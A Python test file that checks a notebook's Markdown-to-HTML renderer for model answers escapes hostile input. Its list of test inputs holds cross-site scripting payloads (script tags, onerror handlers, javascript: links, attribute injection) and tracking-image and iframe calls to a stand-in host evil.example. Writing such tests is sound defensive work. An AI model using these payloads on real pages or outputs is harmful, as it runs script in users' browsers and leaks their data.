"""The HTML made from a model's Markdown runs nothing and fetches nothing."""

from __future__ import annotations

import html
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spicy_avocado_magic.notebook.display.answer import (
    LONGEST_RENDERED,
    markdown_html,
)

HEADINGS = frozenset({"h1", "h2", "h3", "h4", "h5", "h6"})
TABLES = frozenset({"table", "tbody", "td", "th", "thead", "tr"})
BLOCKS = frozenset({"blockquote", "div", "hr", "li", "ol", "p", "pre", "ul"})
INLINE = frozenset({"a", "br", "code", "em", "s", "strong"})
HARMLESS = HEADINGS | TABLES | BLOCKS | INLINE
STYLES = frozenset(
    {
        "text-align:left",
        "text-align:right",
        "text-align:center",
        "white-space:pre-wrap",
        "color:inherit",
    }
)
ATTRIBUTES = frozenset({"class", "href", "rel", "start", "style", "target", "title"})


class Elements(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.links: list[dict[str, str]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.tags.add(tag)
        values = {name: value or "" for name, value in attrs}
        self.attributes += values.items()
        if tag == "a":
            self.links.append(values)


EVIL = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<style>@import 'http://evil.example'</style>",
    "![pixel](http://evil.example/?leak=1)",
    "![pixel][r]\n\n[r]: http://evil.example/x.png",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,AAAA)",
    "[x](\tjava\nscript:alert(1))",
    "[x](vbscript:x)",
    "[x](ftp://evil.example/x)",
    "[x](//evil.example/x)",
    "[x](/lab/tree/secret.ipynb)",
    "[x](#anchor)",
    "<javascript:alert(1)>",
    "<http://evil.example/>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```x" onmouseover="alert(1)\ncode\n```',
    '[x](http://a.example "title\\" onclick=\\"alert(1)")',
    "$\\href{javascript:alert(1)}{x}$",
    "a | b\n--|--\n<img onerror=x> | ![y](http://evil.example)",
    "\x1b]0;title\x07\x1b[31mred",
    "<!-- --><iframe src=http://evil.example></iframe>",
]


def check_harmless(markup: str) -> None:
    """Expect nothing that runs, loads or steers."""
    seen = Elements(markup)
    assert seen.tags <= HARMLESS, seen.tags - HARMLESS
    names = {name for name, _ in seen.attributes}
    assert names <= ATTRIBUTES, names - ATTRIBUTES
    for name, value in seen.attributes:
        assert name != "style" or value in STYLES, value
    for link in seen.links:
        assert link["href"].lower().startswith(("http://", "https://")), link
        assert "noopener" in link["rel"]
    assert "\x1b" not in markup


@pytest.mark.parametrize("text", EVIL)
def test_malicious_text_is_escaped(text: str) -> None:
    """No element, attribute or address of it becomes HTML."""
    check_harmless(markdown_html(text))


@given(st.text(alphabet="<>[]()!`*_#|-:\"'\\&$ \n\tahtp/j=x", max_size=200))
def test_any_text_is_harmless(text: str) -> None:
    """Also random texts."""
    check_harmless(markdown_html(text))


def test_markdown_is_rendered() -> None:
    """Headings, lists, code, tables and links."""
    markup = markdown_html(
        "# Title\n\n**bold** ~~gone~~\n\n- one\n\n```python\nprint('<b>')\n```\n\n"
        "a | b\n--|--\n1 | 2\n\n[page](https://a.example/x?y=1&z=2)"
    )
    for markup_part in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<li>one</li>",
        "<td>1</td>",
    ):
        assert markup_part in markup
    assert html.escape("print('<b>')", quote=False) in markup
    (link,) = Elements(markup).links
    assert link["href"] == "https://a.example/x?y=1&z=2"
    assert link["target"] == "_blank"
    assert link["style"] == "color:inherit", "it cannot be read on a dark theme"


def test_tex_is_not_typeset() -> None:
    """It has commands that run and fetch, and JupyterLab typesets every output."""
    markup = markdown_html("$x$")
    (name, value) = Elements(markup).attributes[0]
    assert name == "class"
    assert "mathjax_ignore" in value.split()


def test_a_very_long_text_is_not_rendered() -> None:
    """Rendering would block the kernel; it is escaped all the same."""
    markup = markdown_html("<b>" * LONGEST_RENDERED)
    assert Elements(markup).tags == {"div"}
    check_harmless(markup)
